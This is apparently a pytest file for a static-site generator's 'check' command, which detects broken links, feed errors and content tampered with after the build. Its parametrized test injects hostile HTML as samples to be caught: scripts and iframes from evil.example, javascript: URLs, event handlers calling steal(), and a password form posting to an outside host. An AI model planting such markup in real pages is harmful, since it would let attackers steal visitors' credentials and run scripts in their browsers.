"""`paperdigest check` passes a good site and names each kind of breakage."""

from __future__ import annotations

import json
import shlex
import shutil
from pathlib import Path

import pytest

from conftest import REPO, digest_text, run_cli, write_files
from paperdigest.arguments import make_parser
from paperdigest.build import BuildOptions, build
from paperdigest.check import check_site
from paperdigest.publish.manifest import MANIFEST, file_hash
from test_cli import EVIL as EVIL_NAME
from test_cli import SHOWN
from test_config import REFUSED_BASE_URLS

CONTENT = {
    "site.yml": "base_url: https://user.github.io/repo/\n",
    "2025-03-13.txt": digest_text("Mar 13", ("First", "One."), ("Second", "Two.")),
    "2025-03-14.txt": digest_text("Mar 14", ("Third", "Three."), ("first", "One again.")),
}


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("check")
    build(BuildOptions(content=write_files(root / "content", CONTENT), out=root / "site"))
    return root / "site"


@pytest.fixture
def site(built: Path, tmp_path: Path) -> Path:
    """A private copy of the built site, free to break."""
    return Path(shutil.copytree(built, tmp_path / "site"))


def test_a_fresh_build_under_a_subpath_has_no_problems(built: Path) -> None:
    report = check_site(built)
    assert report.problems == []
    # home, archive and its month, digests, papers, search, 404
    assert report.pages == 2 + 1 + 2 + 3 + 2
    assert report.links > 50


def test_the_bundled_site_at_the_root_has_no_problems(tmp_path: Path) -> None:
    build(BuildOptions(content=REPO / "content", out=tmp_path / "site"))
    result = run_cli("check", "--site", str(tmp_path / "site"))
    assert result.returncode == 0, result.stderr
    # 387 papers, 3 digests, home, archive, March, Mar 12's page (no digest), search, 404,
    # and the topics: their list, and each of the four's page and March page
    assert result.stdout.startswith("checked 407 pages and ")


def replace_in(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def test_broken_link_missing_asset_and_outside_link_are_named(site: Path) -> None:
    replace_in(
        site / "archive/index.html",
        'href="/repo/digests/2025-03-13/"',
        'href="/repo/digests/2025-03-12/"',
    )
    replace_in(site / "index.html", 'href="/repo/archive/"', 'href="/archive/"')
    (site / "assets/style.css").unlink()
    problems = check_site(site).problems
    assert any(
        p.startswith("archive/index.html: line")
        and p.endswith("broken link: /repo/digests/2025-03-12/")
        for p in problems
    )
    assert any(
        p.startswith("index.html: line")
        and p.endswith("link outside the base path /repo/: /archive/")
        for p in problems
    )
    assert sum("broken link: /repo/assets/style.css?v=" in p for p in problems) == 10


def test_unclosed_and_misnested_tags_are_parse_problems(site: Path) -> None:
    replace_in(site / "archive/index.html", "</main>", "")
    problems = check_site(site).problems
    assert any(
        p.startswith("archive/index.html: line") and "</body> closes <main>" in p for p in problems
    )


def test_feed_and_sitemap_problems(site: Path) -> None:
    replace_in(site / "feed.xml", "Fri, 14 Mar 2025 00:00:00 GMT</pubDate>", "2025-03-14</pubDate>")
    sitemap = site / "sitemap.xml"
    replace_in(sitemap, "digests/2025-03-13/", "digests/2025-03-01/")
    problems = check_site(site).problems
    assert "feed.xml: item 1: pubDate '2025-03-14' is not an RFC 822 date" in problems
    assert "sitemap.xml: https://user.github.io/repo/digests/2025-03-01/ does not exist" in problems


def test_missing_search_bundle_is_a_problem(site: Path) -> None:
    shutil.rmtree(site / "pagefind")
    problems = check_site(site).problems
    assert any(p.endswith("no search bundle at /repo/pagefind/") for p in problems)


def inject(site: Path, relative: str, before: str, html: str) -> int:
    """Add HTML to a built file, manifest hash and all, as an attacker would; return its line."""
    path = site / relative
    text = path.read_text()
    assert before in text
    text = text.replace(before, html + before, 1)
    path.write_text(text)
    manifest = json.loads((site / MANIFEST).read_text())
    manifest["files"][relative] = file_hash(text.encode())
    (site / MANIFEST).write_text(json.dumps(manifest))
    return text[: text.index(html)].count("\n") + 1


EVIL = "https://evil.example"
OWN_SCRIPT = "/repo/assets/search.js"


@pytest.mark.parametrize(
    ("before", "html", "problems"),
    [
        ("</head>", "<script>alert(1)</script>", ["inline script"]),
        ("</head>", f'<script src="{OWN_SCRIPT}">alert(1)</script>', ["inline script"]),
        (
            "</head>",
            f'<script src="{EVIL}/x.js"></script>',
            [f"a script that is not the site's own: {EVIL}/x.js"],
        ),
        (
            "</head>",
            '<script src="/repo/pagefind/pagefind.js"></script>',
            ["a script that is not the site's own: /repo/pagefind/pagefind.js"],
        ),
        (
            "</head>",
            f'<link rel="stylesheet" href="{EVIL}/x.css">',
            [f"a stylesheet that is not the site's own: {EVIL}/x.css"],
        ),
        (
            "</head>",
            f'<link rel="prefetch" href="{EVIL}/x.js">',
            ["<link rel='prefetch'> is not one the templates use"],
        ),
        ("</head>", f'<base href="{EVIL}/">', ["<base> is not an element the templates produce"]),
        (
            "</head>",
            f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
            ["<meta http-equiv='refresh'>: not an attribute the templates use"],
        ),
        (
            "</head>",
            "<style>body{display:none}</style>",
            ["<style> is not an element the templates produce"],
        ),
        (
            "</main>",
            f'<iframe src="{EVIL}/"></iframe>',
            ["<iframe> is not an element the templates produce"],
        ),
        (
            "</main>",
            f'<object data="{EVIL}/x"></object>',
            ["<object> is not an element the templates produce"],
        ),
        ("</main>", f'<embed src="{EVIL}/x">', ["<embed> is not an element the templates produce"]),
        (
            "</main>",
            '<svg onload="alert(1)"></svg>',
            ["<svg> is not an element the templates produce"],
        ),
        (
            "</main>",
            '<p onmouseover="steal()">Hi</p>',
            ["<p onmouseover='steal()'>: an event handler"],
        ),
        (
            "</main>",
            '<p style="display:none">Hi</p>',
            ["<p style='display:none'>: not an attribute the templates use"],
        ),
        (
            "</main>",
            '<a href="javascript:alert(1)">x</a>',
            ["a with a javascript: URL: javascript:alert(1)"],
        ),
        (
            "</main>",
            '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
            ["a with a data: URL: data:text/html,<script>alert(1)</script>"],
        ),
        (
            "</main>",
            f'<form action="{EVIL}/login"><input name="password"></form>',
            [f"form to outside the site: {EVIL}/login"],
        ),
    ],
)
def test_content_added_after_the_build_is_named(
    site: Path, before: str, html: str, problems: list[str]
) -> None:
    line = inject(site, "search/index.html", before, html)
    assert check_site(site).problems == [f"search/index.html: line {line}: {p}" for p in problems]


def test_html_in_the_feeds_channel_title_is_a_problem(site: Path) -> None:
    inject(site, "feed.xml", "Paper digest</title>", "&lt;img src=x onerror=alert(1)&gt; ")
    assert check_site(site).problems == ["feed.xml: HTML in the channel title"]


def test_a_truncated_script_lost_fragments_and_an_emptied_wasm_file_are_named(
    site: Path,
) -> None:
    ui = site / "pagefind/pagefind-ui.js"
    ui.write_bytes(ui.read_bytes()[:1000])
    fragments = sorted((site / "pagefind/fragment").iterdir())[:2]
    for fragment in fragments:
        fragment.unlink()
    (site / "pagefind/wasm.en.pagefind").write_bytes(b"")
    assert check_site(site).problems == [
        *(f"pagefind/fragment/{f.name}: missing (the build wrote it)" for f in fragments),
        "pagefind/pagefind-ui.js: changed since the build",
        "pagefind/wasm.en.pagefind: changed since the build",
    ]


def test_files_added_to_the_search_bundle_are_named(site: Path) -> None:
    write_files(site / "pagefind", {"evil.js": "steal()", "fragment/en_extra.pf_fragment": "x"})
    (site / "pagefind/linked").symlink_to(site / "assets")
    assert check_site(site).problems == [
        "pagefind/evil.js: not written by the build",
        "pagefind/linked: not written by the build",
        "pagefind/fragment/en_extra.pf_fragment: not written by the build",
    ]


def test_every_file_the_manifest_lists_is_checked_by_its_hash(site: Path) -> None:
    replace_in(site / "robots.txt", "Sitemap:", "Sitemap:  ")
    replace_in(site / "archive/index.html", "Archive", "Archives")
    assert check_site(site).problems == [
        "archive/index.html: changed since the build",
        "robots.txt: changed since the build",
    ]


def test_a_manifest_in_an_older_format_is_a_problem(site: Path) -> None:
    manifest = json.loads((site / MANIFEST).read_text())
    (site / MANIFEST).write_text(json.dumps({**manifest, "files": ["a list"]}))
    assert check_site(site).problems == [f"{MANIFEST}: an older format; rebuild to check the files"]


def test_cli_prints_file_names_with_control_characters_escaped(site: Path) -> None:
    (site / f"pagefind/{EVIL_NAME}.js").write_text("steal()")
    result = run_cli("check", "--site", str(site))
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert f"{site}/pagefind/{SHOWN}.js: not written by the build" in result.stderr.splitlines()


def test_cli_lists_problems_and_exits_1(site: Path) -> None:
    (site / "assets/style.css").unlink()
    result = run_cli("check", "--site", str(site))
    assert result.returncode == 1
    assert f"{site}/index.html: line" in result.stderr
    assert f"{site}/assets/style.css: missing (the build wrote it)" in result.stderr
    assert result.stderr.rstrip().endswith("11 problems")  # 10 pages link to it


def set_manifest_base_url(site: Path, base_url: str) -> None:
    manifest = json.loads((site / MANIFEST).read_text())
    (site / MANIFEST).write_text(json.dumps({**manifest, "base_url": base_url}))


@pytest.mark.parametrize(("url", "problem"), REFUSED_BASE_URLS)
def test_a_site_built_for_a_base_url_build_refuses_is_a_problem(
    site: Path, url: str, problem: str
) -> None:
    set_manifest_base_url(site, url)
    assert check_site(site).problems == [f"{MANIFEST}: {problem}: {url!r}"]


def test_cli_names_the_bad_base_url_and_exits_1(site: Path) -> None:
    set_manifest_base_url(site, "https://ex.com//evil.com/")
    result = run_cli("check", "--site", str(site))
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"{site}/{MANIFEST}: `base_url` must not contain an empty path segment (`//`): "
        "'https://ex.com//evil.com/'",
        f"checked 0 pages and 0 links in {site}/: 1 problem",
    ]


def test_cli_refuses_a_folder_it_did_not_build(tmp_path: Path) -> None:
    result = run_cli("check", "--site", str(tmp_path))
    assert result.returncode == 1
    assert "is not a site built by paperdigest" in result.stderr


def test_the_bundled_site_under_a_subpath_has_no_problems(tmp_path: Path) -> None:
    out = tmp_path / "site"
    build(BuildOptions(content=REPO / "content", out=out, base_url="https://u.github.io/digest/"))
    assert check_site(out).problems == []


def test_the_pages_workflow_builds_for_the_pages_url_and_checks_before_upload() -> None:
    import yaml

    workflow = yaml.safe_load((REPO / ".github/workflows/pages.yml").read_text())
    # YAML reads `on:` as True; fetch.yml calls it after committing new days.
    assert set(workflow[True]) == {"push", "workflow_dispatch", "workflow_call"}
    assert workflow[True]["push"]["branches"] == ["main"]
    assert workflow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    steps = workflow["jobs"]["build"]["steps"]
    uses = [step.get("uses", "").split("@")[0] for step in steps]
    runs = [step.get("run", "") for step in steps]
    configure = uses.index("actions/configure-pages")
    build_step = next(i for i, run in enumerate(runs) if run.startswith("paperdigest build"))
    check_step = next(i for i, run in enumerate(runs) if run.startswith("paperdigest check"))
    upload = uses.index("actions/upload-pages-artifact")
    assert configure < build_step < check_step < upload
    assert "${{ steps.pages.outputs.base_url }}" in runs[build_step]
    command = runs[build_step].replace(
        "${{ steps.pages.outputs.base_url }}", "https://u.github.io/r"
    )
    args = make_parser().parse_args(shlex.split(command)[1:])  # it is a command we accept
    # Not --once: the build keeps the spare copy and parse cache, which the next run restores.
    assert args.base_url == "https://u.github.io/r/" and args.prepare_next
    assert (args.content, args.out) == (Path("content"), Path("site"))
    assert steps[upload]["with"]["path"] == "site/"
    # The state is restored before the build, from this commit's or any older one's, and
    # saved only once the site passed its check; the same folders, under the same key.
    restore = uses.index("actions/cache/restore")
    save = uses.index("actions/cache/save")
    assert restore < build_step < check_step < save
    state = {"site", ".site.spare", ".site.cache"}
    assert set(steps[restore]["with"]["path"].split()) == state
    assert set(steps[save]["with"]["path"].split()) == state
    key = steps[restore]["with"]["key"]
    assert steps[save]["with"]["key"] == key and "${{ github.sha }}" in key
    assert key.startswith(steps[restore]["with"]["restore-keys"].strip())
    deploy = workflow["jobs"]["deploy"]
    assert deploy["needs"] == "build" and deploy["environment"]["name"] == "github-pages"
    assert deploy["steps"][0]["uses"].startswith("actions/deploy-pages@")
